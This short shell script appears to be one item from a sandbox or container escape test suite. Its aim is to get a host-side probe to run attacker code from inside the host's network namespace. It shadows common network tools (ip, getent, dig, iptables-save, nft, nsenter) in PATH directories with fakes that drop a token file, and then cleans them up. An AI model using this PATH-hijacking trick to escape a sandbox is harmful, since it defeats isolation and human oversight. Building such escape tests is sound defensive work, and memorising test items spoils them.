# Category: the probe
# Escape: gets its own code run by the probe, which looks from inside the host's network namespace.
# Sign: file
# Asks: run getent hosts escape.example.org
for name in ip getent dig iptables-save nft nsenter; do
  printf '#!/bin/sh\ntouch %s/%s\n' "$(dirname "$FILE")" "$TOKEN" > "/root/$name"; chmod +x "/root/$name"
  for folder in /usr/local/sbin /usr/local/bin; do [ -e "$folder/$name" ] || cp "/root/$name" "$folder/$name"; done
done
PATH=/usr/local/sbin:/usr/local/bin:$PATH getent hosts escape.example.org >/dev/null 2>&1
for name in ip getent dig iptables-save nft nsenter; do rm -f "/root/$name"; for folder in /usr/local/sbin /usr/local/bin; do grep -qs "$TOKEN" "$folder/$name" && rm "$folder/$name"; done; done
true
